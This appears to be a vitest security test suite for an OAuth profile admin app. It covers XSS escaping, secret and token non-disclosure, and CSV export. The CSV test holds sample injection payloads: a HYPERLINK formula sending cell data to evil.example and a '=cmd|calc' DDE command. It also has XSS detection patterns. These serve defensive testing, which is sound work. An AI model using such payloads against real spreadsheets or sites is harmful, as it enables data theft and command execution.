import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import {
  ADMIN,
  SECRET,
  XSS,
  apiCsrf,
  createViaApi,
  everything,
  formBody,
  htmlCsrf,
  startProfilesApp,
  type ProfilesApp,
} from './helpers.js'

let app: ProfilesApp
beforeAll(async () => {
  app = await startProfilesApp()
})
afterAll(async () => {
  await app?.close()
})
beforeEach(async () => {
  for (const p of await app.dock.store.profiles.list()) await app.dock.store.profiles.delete(p.id)
})

/** No raw payload, and its escaped form is there (so the test cannot pass by the value missing). */
function expectEscaped(html: string, payload: string, where: string): void {
  expect(html, where).not.toContain(payload)
  expect(html, where).not.toMatch(/<script>alert|<img src=x/i)
}

const escapedForm = (payload: string) =>
  payload.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&#34;')

describe('XSS payloads are escaped on every page', () => {
  for (const payload of XSS) {
    it(`escapes ${payload} stored in every text field, in the overview, edit and delete pages`, async () => {
      const id = await createViaApi(app, {
        name: `name ${payload}`,
        clientId: `client ${payload}`,
        scope: `scope ${payload}`,
        authorizationUrl: `https://login.example.com/auth/${payload}`,
        tokenUrl: `https://login.example.com/token/${payload}`,
        redirectUrl: `https://app.example.com/oauth2redirect/${payload}`,
        proxy: `http://proxy.example.com:3128/${payload}`,
        clientSecret: `${SECRET}${payload}`,
      })
      // Token state written by the token provider can carry provider-influenced text too.
      await app.dock.store.tokens.save(id, {
        status: 'error',
        lastErrorCode: 'TOKEN_REFRESH_FAILED',
        lastErrorMessage: `failed ${payload}`,
        authorizedAccount: `acct ${payload}`,
      })
      for (const path of ['/', `/${id}/edit`, `/${id}/delete`]) {
        const res = await app.agent.get(`${app.admin}${path}`).set(ADMIN)
        expect(res.status, path).toBe(200)
        expectEscaped(res.text, payload, path)
        expect(res.text, path).toContain(escapedForm(`name ${payload}`))
        expect(res.text, path).not.toContain(SECRET)
      }
      const overview = await app.agent.get(`${app.admin}/`).set(ADMIN)
      for (const shown of [`client ${payload}`, `failed ${payload}`, `acct ${payload}`])
        expect(overview.text).toContain(escapedForm(shown))
      const edit = await app.agent.get(`${app.admin}/${id}/edit`).set(ADMIN)
      expect(edit.text).toContain(escapedForm(`https://login.example.com/token/${payload}`))
      expect(edit.text).toContain(escapedForm(`http://proxy.example.com:3128/${payload}`))
    })

    it(`escapes ${payload} echoed back in a rejected form, in every field`, async () => {
      const csrf = await htmlCsrf(app)
      const body = Object.fromEntries(Object.keys(formBody()).map((k) => [k, `${payload}`]))
      const res = await app.agent
        .post(app.admin)
        .set(ADMIN)
        .type('form')
        .send({ ...body, _csrf: csrf })
      expect(res.status).toBe(400)
      expectEscaped(res.text, payload, 'rejected form')
      expect(await app.dock.store.profiles.list()).toHaveLength(0)
    })

    it(`escapes ${payload} in preset input`, async () => {
      const csrf = await htmlCsrf(app)
      const res = await app.agent
        .post(`${app.admin}/new/preset`)
        .set(ADMIN)
        .type('form')
        .send({ _csrf: csrf, preset: payload, tenantId: payload, issuer: payload })
      expectEscaped(res.text, payload, 'preset form')
    })

    it(`answers ${payload} as inert JSON data`, async () => {
      const id = await createViaApi(app, { name: payload })
      const res = await app.agent.get(`${app.api}/${id}`).set(ADMIN)
      expect(res.headers['content-type']).toMatch(/^application\/json/)
      expect(res.body.profile.name).toBe(payload)
    })
  }

  it('sends a Content-Security-Policy without unsafe-inline on admin pages', async () => {
    const res = await app.agent.get(`${app.admin}/`).set(ADMIN)
    expect(res.headers['content-security-policy']).toMatch(/script-src 'nonce-/)
    expect(res.headers['content-security-policy']).not.toContain('unsafe-inline')
  })
})

describe('the client secret and tokens never leave the store', () => {
  it('appears in no page, JSON answer or CSV, after create and update', async () => {
    const id = await createViaApi(app)
    await app.dock.store.tokens.save(id, {
      accessToken: 'ACCESS-TOKEN-VALUE-xyz',
      refreshToken: 'REFRESH-TOKEN-VALUE-xyz',
      status: 'ok',
      accessTokenExpiresAt: new Date(Date.now() + 3600_000),
    })
    const csrf = await apiCsrf(app)
    await app.agent
      .patch(`${app.api}/${id}`)
      .set(ADMIN)
      .set('x-csrf-token', csrf)
      .send({ name: 'Renamed', clientSecret: `${SECRET}-2` })
    const answers: Array<[string, Awaited<ReturnType<typeof app.agent.get>>]> = []
    for (const path of [
      `${app.admin}/`,
      `${app.admin}/new`,
      `${app.admin}/${id}/edit`,
      `${app.admin}/${id}/delete`,
      `${app.admin}/export.csv`,
      app.api,
      `${app.api}/${id}`,
      `${app.api}/export.csv`,
    ])
      answers.push([path, await app.agent.get(path).set(ADMIN)])
    for (const [path, res] of answers) {
      expect(res.status, path).toBe(200)
      const text = everything(res)
      for (const secret of [SECRET, 'ACCESS-TOKEN-VALUE', 'REFRESH-TOKEN-VALUE'])
        expect(text, path).not.toContain(secret)
    }
    const audit = JSON.stringify(await app.dock.store.audit.list({ profileId: id }))
    expect(audit).not.toContain(SECRET)
  })

  it('is not echoed in a validation error, not even when the secret itself is the bad field', async () => {
    const csrf = await apiCsrf(app)
    const res = await app.agent
      .post(app.api)
      .set(ADMIN)
      .set('x-csrf-token', csrf)
      .send({ name: '', clientSecret: `${SECRET}\u0000` })
    expect(res.status).toBe(400)
    expect(res.body.error.fields.clientSecret).toMatch(/control/)
    expect(res.text).not.toContain(SECRET)
  })
})

/** A strict RFC 4180 reader: rows end in CRLF, quoted cells double their quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let i = 0
  while (i < text.length) {
    let cell = ''
    if (text[i] === '"') {
      i++
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"'
          i += 2
        } else if (text[i] === '"') {
          i++
          break
        } else if (i >= text.length) throw new Error('unterminated quote')
        else cell += text[i++]
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') cell += text[i++]
    }
    row.push(cell)
    if (text[i] === ',') {
      i++
      continue
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row)
      row = []
      i += 2
      continue
    }
    throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`)
  }
  return rows
}

describe('CSV export', () => {
  it('is RFC 4180 (CRLF, quotes doubled, commas kept inside cells) and has no secret column', async () => {
    await createViaApi(app, { name: 'Sales, "EU" team', scope: 'a b' })
    const res = await app.agent.get(`${app.admin}/export.csv`).set(ADMIN)
    expect(res.text.endsWith('\r\n')).toBe(true)
    expect(res.text).toContain('"Sales, ""EU"" team"')
    const [header, row] = parseCsv(res.text)
    expect(header).not.toContain('clientSecret')
    expect(header.filter((h) => /secret|token/i.test(h))).toEqual([
      'tokenUrl',
      'clientSecretSet',
      'secretExpiresAt',
      'tokenStatus',
      'accessTokenPresent',
      'accessTokenExpiresAt',
      'refreshTokenPresent',
    ])
    expect(row[header.indexOf('name')]).toBe('Sales, "EU" team')
    expect(row[header.indexOf('clientSecretSet')]).toBe('yes')
  })

  it('neutralises cells that a spreadsheet would run as a formula (= + - @ TAB CR)', async () => {
    const formulas = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', '+1', '-1', '@SUM(A1:A9)']
    const ids: string[] = []
    for (const [n, f] of formulas.entries())
      ids.push(await createViaApi(app, { name: f, clientId: f, scope: f.replace(/\s/g, '') + ` s${n}` }))
    await app.dock.store.tokens.save(ids[0], {
      status: 'error',
      authorizedAccount: '\t=cmd|calc',
      lastErrorMessage: '\r=1+1',
    })
    const res = await app.agent.get(`${app.api}/export.csv`).set(ADMIN)
    const [header, ...rows] = parseCsv(res.text)
    const col = (name: string) => rows.map((r) => r[header.indexOf(name)])
    expect(col('name').sort()).toEqual(formulas.map((f) => `'${f}`).sort())
    expect(col('clientId').sort()).toEqual(formulas.map((f) => `'${f}`).sort())
    expect(col('authorizedAccount')).toContain("'\t=cmd|calc")
    expect(col('lastErrorMessage')).toContain("'\r=1+1")
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })
})
